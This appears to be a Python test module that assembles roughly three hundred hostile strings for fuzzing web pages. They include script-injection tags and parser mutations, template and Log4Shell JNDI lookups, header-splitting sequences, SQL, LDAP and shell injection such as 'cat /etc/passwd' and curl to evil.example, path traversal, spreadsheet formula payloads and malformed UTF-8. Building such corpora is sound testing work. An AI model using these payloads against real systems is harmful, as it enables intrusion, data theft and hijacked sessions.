"""Three hundred strings that have broken other people's pages, made from parts: HTML and its mutations,
attributes, template syntax, direction and zero-width characters, long and joined scripts, controls,
header splitting, SQL, paths, formulas, bytes that are no UTF-8 (as surrogates, sent as they are).

Whatever would run calls `alert(N)` or sets `window.owned`."""

TAGS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<a href=javascript:alert(1)>x</a>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
    "<style>@import'//evil.example/x.css';</style>", "<marquee onstart=alert(1)>x</marquee>",
    "<select onfocus=alert(1) autofocus>", "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext>", "<!--", "-->", "<![CDATA[", "]]>", "<?xml?>",
    "<!doctype html>", "</main></body></html>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</form><form action=//evil.example>",
    "<template><script>alert(1)</script></template>", "<slot onslotchange=alert(1)>",
    "<animate onbegin=alert(1) attributeName=x dur=1s>", "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>",
]
ENDINGS = ["'", '"', "'>", '">', '" ', "' ", "\\\"", "\\'", "`", "&quot;", "&#34;", "%22", "\" x=\"", "/>", "--!>"]
MUTATIONS = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img/src/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x",
    "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='", "` autofocus onfocus=alert(1) `", "<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>",
    "\u2039script\u203aalert(1)\u2039/script\u203a", "<\u0131frame src=x>", "<scr\u0130pt>alert(1)</scr\u0130pt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
]
ENTITIES = ["&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&amp;lt;", "&", "&&", "&;",
            "&#0;", "&#x110000;", "&#38;#60;", "&lt", "&copy", "&nbsp;", "%3Cscript%3Ealert(1)%3C/script%3E",
            "%253Cscript%253E", "\\u003cscript\\u003e", "\\x3cscript\\x3e"]
TEMPLATES = ["{{csrf}}", "{{=common.skip}}", "{{#own}}{{name}}{{/own}}", "{{>common/head}}", "{{{csrf}}}", "{{^a}}b{{/a}}",
             "{{money 1}}", "{{", "}}", "{{/a}}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[csrf]]", "{{.}}",
             "{{word role link.role}}", "@{csrf}", "%{csrf}", "%s%s%s%n", "%08x", "$(id)", "`id`", "${jndi:ldap://evil.example/x}"]
UNICODE = [
    "\u202eevil\u202c", "\u202atxt\u202c", "\u2066abc\u2069", "\u200fabc\u200e", "\u200b\u200c\u200d", "\ufeffabc", "a\u0300" * 20,
    "\u061cabc", "\U000e0001\U000e0041", "👩‍👩‍👧‍👦" * 5, "🏳️‍🌈", "👍🏽" * 10, "🇨🇳🇬🇧", "龘" * 20, "𠮷野家", "한국어 이름",
    "שלום עולם", "مرحبا بالعالم", "ﷺ" * 5, "Z\u0351\u036b\u0343\u036a\u0302a\u0346\u030dl\u0357\u030bgo", "\u2028", "\u2029",
    "\u0085", "\u00a0", "\u3000", "\u00ad\u00ad", "\u180e", "\u2060", "\ufff9\ufffa\ufffb", "\ufffe", "\uffff", "\U0010ffff",
    "ⅷ①Ａａ", "ı İ ß ſ", "\ue000\uf8ff", "\u115f\u1160\u3164", "‮<script>alert(1)</script>",
]
CONTROLS = ["\x00", "a\x00b", "\x01\x02", "\x07\x08", "\x0b\x0c", "\x1b[31mred", "\x7f", "\u0080\u0090", "a\tb", "a\nb", "a\rb",
            "a\r\nb", "\r\nSet-Cookie: owned=1", "\r\n\r\n<script>alert(1)</script>", "%0d%0aSet-Cookie:%20owned=1",
            "\nLocation: //evil.example", "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK"]
COMMANDS = ["' or '1'='1", "'; drop table members;--", "\" or 1=1--", "1; select pg_sleep(9)", "') union select 1,2--", "admin'--",
            "*)(uid=*))(|(uid=*", "; ls -la", "| cat /etc/passwd", "&& id", "$(curl evil.example)", "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2f",
            "..%c0%af..%c0%af", "C:\\boot.ini", "//evil.example/x", "https://evil.example/", "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "__proto__", "constructor", "null", "undefined",
            "NaN", "-0", "1e309", "9" * 40, "0x7fffffff", "-9223372036854775808", "true", "[]", "{}", "[object Object]"]
FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"//evil.example\")",
            "=IMPORTXML(CONCAT(\"//evil.example\"))", " =1+1", "＝1+1", "\"=1+1", ";=1+1", ",=1+1", "%=1+1"]
# No UTF-8: overlong forms, halves of pairs, cut sequences, stray bytes.
BYTES = [b"\xc0\xbcscript\xc0\xbe", b"\xe0\x80\xbcscript", b"\xf0\x80\x80\xbc", b"\xc0\x80", b"\xed\xa0\x80", b"\xed\xb0\x80", b"\xf4\x90\x80\x80",
         b"\xf8\x88\x80\x80\x80", b"\xff\xfe", b"\x80", b"\xbf", b"\xe4\xb8", b"\xc3", b"a\xe4\xb8<script>alert(1)</script>",
         b"\xfe\xff\x00<", b"\xef\xbf\xbe\xc3"]
COUNT_MIN = 300


def strings():
    """The same each time."""
    found = []
    for group in (TAGS, MUTATIONS, ENTITIES, TEMPLATES, UNICODE, CONTROLS, COMMANDS, FORMULAS,
                  [raw.decode("utf-8", "surrogateescape") for raw in BYTES]):
        found += group
    # Each ending before each of the shortest ways to run something, until it is enough.
    runs = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
            " onmouseover=alert(1) autofocus onfocus=alert(1) "]
    found += [ending + run for run in runs for ending in ENDINGS]
    found += ["好" * size for size in (40, 41, 64, 65, 127, 128, 500, 2000)]
    found += ["A" * size for size in (40, 41, 64, 65, 255, 256, 1000, 7000)]
    unique = list(dict.fromkeys(found))
    assert len(unique) >= COUNT_MIN, len(unique)
    return unique


def wire(text):
    """As it is sent: a surrogate stands for the byte it came from."""
    return text.encode("utf-8", "surrogateescape")
